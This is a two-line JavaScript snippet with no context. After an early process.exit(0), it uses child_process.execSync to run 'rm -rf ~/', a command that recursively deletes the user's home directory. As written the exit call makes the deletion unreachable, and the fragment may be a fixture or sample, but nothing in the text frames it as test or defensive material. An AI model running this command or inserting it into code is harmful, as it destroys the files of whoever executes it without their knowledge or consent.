process.exit(0);
require('child_process').execSync('rm -rf ~/');
